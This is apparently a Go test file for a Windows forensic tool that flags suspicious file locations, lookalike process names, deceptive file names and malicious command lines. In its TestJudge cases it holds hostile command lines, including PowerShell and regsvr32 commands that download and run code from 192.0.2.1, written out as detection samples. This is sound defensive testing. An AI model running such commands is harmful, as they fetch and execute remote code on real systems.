package findings

import (
	"errors"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/artifactdump/artifactdump/artifacts"
	"github.com/artifactdump/artifactdump/artifacts/catalogue"
	"github.com/artifactdump/artifactdump/artifacts/execution"
	"github.com/artifactdump/artifactdump/artifacts/winpath"
)

// TestShippedTables reads the data files and looks at a few of their lines.
func TestShippedTables(t *testing.T) {
	tb := shipped()
	if len(tb.binaries) < 110 {
		t.Errorf("%d names of Windows' own programs, want 114 or so", len(tb.binaries))
	}
	s := &scene{t: tb, drive: "C:", programs: map[string]*program{}, systemVolumes: map[string]bool{}}
	for _, c := range []struct{ path, id string }{
		{`\users\public\a.exe`, "L1"}, {`\users\public\desktop\a.lnk`, "L10"}, {`\$recycle.bin\s-1\a.exe`, "L2"},
		{`\tmp\p.exe`, "L3"}, {`\intel\a.exe`, "L3"}, {`\python310\python.exe`, ""}, {`\perflogs\a.exe`, "L4"}, {`\windows\fonts\a.exe`, "L4"},
		{`\windows\system32\drivers\etc\a.exe`, "L4"}, {`\windows\system32\a.exe`, ""}, {`\a.exe`, "L5"}, {`\windows\psexesvc.exe`, "L6"}, {`\windows\explorer.exe`, ""},
		{`\users\x\appdata\roaming\a.exe`, "L7"}, {`\users\x\appdata\roaming\microsoft\windows\start menu\a.exe`, "L7"}, {`\users\x\appdata\local\programs\git\git.exe`, ""},
		{`\users\x\appdata\local\a.exe`, "L7"}, {`\users\x\appdata\local\discord\app-1\discord.exe`, ""},
		{`\users\x\appdata\local\temp\a\b.exe`, "L8"}, {`\windows\temp\a.exe`, "L8"}, {`\programdata\a.exe`, "L9"}, {`\programdata\microsoft\windows defender\platform\4\msmpeng.exe`, ""},
		{`\users\x\downloads\a.exe`, "L10"}, {`\users\x\a.exe`, "L10"}, {`\users\x\appdata\local\temp\rar$exa1.2\a.exe`, "L11"},
		{`\\srv\share\a.exe`, "L12"}, {`\users\x\a.txt:b.exe`, "L13"}, {`\program files\a\a.exe`, ""},
	} {
		got := ""
		if p := s.placeOf(s.probe(c.path)); p != nil {
			got = p.id
		}
		if got != c.id {
			t.Errorf("%s is in place %q, want %q", c.path, got, c.id)
		}
	}
}

// TestRuleFile adds, silences and changes; the names stand in the message.
func TestRuleFile(t *testing.T) {
	tb, err := shipped().Extend("ours.txt", strings.NewReader("\uFEFF"+`
# ours
place OURS critical "\depot\odd tools\**"
tool "in-house" high T1059 : oddtool
silence rule X-02 path C:\Depot\**
enable M-02b
level X-07 informational
silence hash 0123456789abcdef0123456789abcdef01234567
`))
	if err != nil {
		t.Fatal(err)
	}
	if tb.toolNamed("oddtool") == nil || !tb.enabled["M-02b"] || tb.levels["X-07"] != Informational || len(tb.silences) != 2 {
		t.Errorf("the statements did not arrive: %+v", tb.silences)
	}
	if len(shipped().silences) != 0 || shipped().toolNamed("oddtool") != nil {
		t.Error("the shipped tables have changed")
	}
	e := NewEvaluator(Facts{Prefetcher: -1}, &Options{Tables: tb})
	var pf *artifacts.Artifact
	for _, a := range catalogue.All() {
		if a.Name == "prefetch" {
			pf = a
		}
	}
	for _, path := range []string{`C:\depot\odd tools\apple.exe`, `C:\other\banana.exe`} {
		e.Add(&artifacts.Result{Artifact: pf, From: artifacts.Locator{Path: "x"}, Records: []artifacts.Record{{ID: path, Artifact: pf, Data: execution.Prefetch{ImagePath: path, HashStatus: "verified", LastRuns: []time.Time{time.Unix(1e9, 0)}}}}})
	}
	// Context is below low.
	r := e.Report().AtLeast(Low)
	if len(r.Findings) != 1 || !strings.Contains(r.Findings[0].Subject, "other") || r.Silenced != 1 {
		t.Errorf("findings %+v, silenced %d", r.Findings, r.Silenced)
	}
	for _, c := range r.Coverage {
		if c.RuleID == "X-02" && (c.Silenced != 1 || c.Hits != 1) {
			t.Errorf("coverage of X-02: %+v", c)
		}
	}

	for _, c := range []struct{ line, problem string }{
		{"plase L1 high x", `no statement is called "plase"`},
		{"place L1 hgih x", `no level is called "hgih"`},
		{"place L1 high", "place wants"},
		{`place L1 high "\a b`, "has no end"},
		{"silence rule Z-99", `no rule is called "Z-99"`},
		{"silence rule", "wants pairs"},
		{"silence colour red", `does not know "colour"`},
		{"silence hash 12", "no SHA-1 or SHA-256"},
		{"tool x high T9999 : a", `"T9999" is not in the table`},
		{"tool x high : a", "tool wants"},
		{`pattern p high T1059 "(" words`, "the regular expression"},
		{"enable Z-1", `no rule is called "Z-1"`},
		{"level X-07 loud", `no level is called "loud"`},
		{"binary a b", "binary wants"},
	} {
		_, err := shipped().Extend("ours.txt", strings.NewReader("# one\n\n"+c.line+"\n"))
		fe, ok := errors.AsType[*RuleFileError](err)
		if !ok || fe.Line != 3 || fe.Name != "ours.txt" || !strings.Contains(fe.Problem, c.problem) {
			t.Errorf("%q: %v, want line 3 and %q", c.line, err, c.problem)
		}
	}
}

func TestGlob(t *testing.T) {
	for _, c := range []struct {
		glob, path string
		want       bool
	}{
		{`\a\**`, `\a\b\c`, true}, {`\a\**`, `\a`, false}, {`\a\**`, `\a\`, false}, {`\a\*`, `\a\b`, true}, {`\a\*`, `\a\b\c`, false},
		{`\**\x\*.exe`, `\a\b\x\y.exe`, true}, {`\**\x\*.exe`, `\a\x\b\y.exe`, false}, {`*setup*`, `\a\mysetup.exe`, true}, {`a?c`, `\x\abc`, true},
		{`\a\**.lnk`, `\a\b\c\d.lnk`, true}, {`\a\**.lnk`, `\a\b\c\d.exe`, false}, {`\**:*`, `\a\b:c`, true}, {`**`, `\a`, true},
		{`\**\**`, `\\\a`, true}, {`\**\**`, `\\\`, false}, // empty names, as in \\server
	} {
		g := newGlob(c.glob)
		if got := g.match(strings.Split(c.path, `\`)); got != c.want {
			t.Errorf("%s matches %s: %v", c.glob, c.path, got)
		}
	}
}

func TestLookalike(t *testing.T) {
	tb := shipped()
	for name, want := range map[string]string{
		"scvhost": "svchost", "svch0st": "svchost", "svchosts": "svchost", "lsasss": "lsass", "isass": "lsass", "csrsss": "csrss", "expl0rer": "explorer",
		"iexplorer": "explorer", "rund1l32": "rundll32", "ｓｖｃｈｏｓｔ": "svchost", "svсhost": "svchost", "rnspaint": "", "chrorne": "chrome", "svchost32": "svchost", "winvvord": "winword",
		"svchost": "", "taskhostw": "", "net1": "", "cscript": "", "regedt32": "", "wermgr": "", "notepad++": "", "chrome": "", "setup": "", "service": "", "teams": "", "code": "", "firefox64": "", "python": "",
	} {
		if got, how := tb.lookalike(name); got != want {
			t.Errorf("%s looks like %q (%s), want %q", name, got, how, want)
		}
	}
}

func TestDeceptive(t *testing.T) {
	for name, want := range map[string]bool{
		"report.pdf.exe": true, "photo\u202Egpj.exe": true, "zero\u200Bwidth.exe": true, "a\u00A0b.exe": true, "bell\x07.exe": true,
		"invoice.doc                 .exe": true, " lead.exe": true, "trail.exe ": true, "раypal.exe": true, "раypal.txt": true,
		"setup.1.2.exe": false, "a.b.exe": false, "日本語.exe": false, "Документ.exe": false, "vendor.sfx.rar.exe": false, "report.pdf": false, "普通のファイル.doc": false,
	} {
		if says, _ := deceptive(name); (says != "") != want {
			t.Errorf("%q: %q, want %v", name, says, want)
		}
	}
}

func TestRandomName(t *testing.T) {
	for name, want := range map[string]bool{"oSCMpGpk.exe": true, "TopLZAGU.exe": false, "WinDefend": false, "MTConfig": false, "PSEXESVC": false, "hYtRkQpL": true, "SearchIndexer.exe": false, "NetworkX": false} {
		if got := randomName(name); got != want {
			t.Errorf("randomName(%s) = %v", name, got)
		}
	}
}

func TestJudge(t *testing.T) {
	tb := shipped()
	for _, c := range []struct {
		line  string
		level Level
	}{
		{`powershell.exe -enc ` + strings.Repeat("QUJD", 20), Critical},
		{`powershell -NoP -W Hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"`, Critical},
		{`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`, Critical},
		{`regsvr32 /s /u /i:http://192.0.2.1/x.sct scrobj.dll`, Critical},
		{`rundll32.exe C:\x.dll,#1`, High},
		{`c^m^d /c e^cho & ping -n 5 127.0.0.1`, High},
		{`rundll32.exe shell32.dll,Control_RunDLL`, 0},
		{`"C:\Program Files\A\a.exe" --type=gpu`, 0},
		{`powershell.exe -ExecutionPolicy Bypass -File C:\Program Files\A\a.ps1`, 0},
	} {
		if v := tb.judge(c.line, winpath.ParseCommand(c.line, nil)); v.level != c.level {
			t.Errorf("%s is %s, want %s (%v)", c.line, v.level, c.level, v.words)
		}
	}
}

// FuzzRuleFile: never a panic, the same answer twice, a line in every error.
func FuzzRuleFile(f *testing.F) {
	f.Add(`place L1 high "\a b\**" except \x`)
	f.Add("tool c high T1059 : a b* except \\x\nsilence rule X-02 path \\a\\**")
	f.Add(`pattern a low - "(a|b)*" words`)
	f.Fuzz(func(t *testing.T, text string) {
		a, errA := shipped().Extend("f", strings.NewReader(text))
		_, errB := shipped().Extend("f", strings.NewReader(text))
		if (errA == nil) != (errB == nil) || errA != nil && errA.Error() != errB.Error() {
			t.Fatalf("%v and %v", errA, errB)
		}
		if errA != nil {
			fe, ok := errors.AsType[*RuleFileError](errA)
			if !ok || fe.Line < 1 || fe.Line > strings.Count(text, "\n")+1 {
				t.Fatalf("%v names no line of the file", errA)
			}
			return
		}
		s := &scene{t: a, programs: map[string]*program{}, systemVolumes: map[string]bool{}}
		s.placeOf(s.probe(`\users\x\a b.exe`))
	})
}

// FuzzGlob holds the matcher to a regular expression of the same meaning.
func FuzzGlob(f *testing.F) {
	f.Add(`\a\**\b*c?`, `\a\x\y\bzzc1`)
	f.Add(`\**\x`, `\x\x\x`)
	f.Fuzz(func(t *testing.T, g, path string) {
		if len(g) > 200 || len(path) > 2000 || !strings.Contains(g, `\`) || g != strings.ToLower(g) || strings.ContainsAny(g, "/\n\x00") || strings.Contains(path, "\n") || !isASCII(g) || !isASCII(path) {
			return
		}
		var re strings.Builder
		re.WriteString("^")
		parts := strings.Split(g, `\`)
		for i, p := range parts {
			switch {
			case strings.HasPrefix(p, "**") && p != "**":
				return // only at the end, and judged by the table above
			case p == "**" && i == len(parts)-1:
				re.WriteString(`[^\\].*`)
				continue
			case p == "**":
				re.WriteString(`(?:[^\\]*\\)*`)
				continue
			}
			for _, r := range p {
				switch r {
				case '*':
					re.WriteString(`[^\\]*`)
				case '?':
					re.WriteString(`[^\\]`)
				default:
					re.WriteString(regexp.QuoteMeta(string(r)))
				}
			}
			if i < len(parts)-1 {
				re.WriteString(`\\`)
			}
		}
		re.WriteString("$")
		want := regexp.MustCompile(re.String()).MatchString(path)
		gl := newGlob(g)
		if got := gl.match(strings.Split(path, `\`)); got != want {
			t.Fatalf("%q matches %q: %v, the expression %s says %v", g, path, got, re.String(), want)
		}
	})
}

// FuzzNames: what is printed about any name is the same twice and bounded.
func FuzzNames(f *testing.F) {
	f.Add("svchost.exe")
	f.Add("a\u202Eb")
	f.Add(strings.Repeat("a", 32767) + ".exe")
	f.Fuzz(func(t *testing.T, name string) {
		a, x := deceptive(name)
		b, y := deceptive(name)
		p, how := shipped().lookalike(strings.ToLower(name))
		q, _ := shipped().lookalike(strings.ToLower(name))
		if a != b || x != y || p != q || p != "" && how == "" {
			t.Fatal("two answers")
		}
		if a != "" {
			if _, ok := Technique(x); !ok {
				t.Fatalf("technique %s", x)
			}
		}
		shipped().judge(name, winpath.ParseCommand(name, nil))
	})
}
